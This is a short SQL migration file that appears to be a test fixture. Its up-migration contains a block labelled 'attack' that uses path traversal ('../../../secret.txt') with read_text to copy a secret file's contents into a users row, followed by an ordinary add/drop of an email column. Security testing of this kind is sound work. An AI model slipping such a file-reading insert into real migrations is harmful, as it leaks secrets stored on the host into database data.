-- reads the class's secret into a row
-- migrate:up
-- attack
INSERT INTO users (id, name, joined) SELECT 77, content, DATE '2026-01-01' FROM read_text('../../../secret.txt');
-- end attack
ALTER TABLE users ADD COLUMN email VARCHAR;

-- migrate:down
ALTER TABLE users DROP COLUMN email;
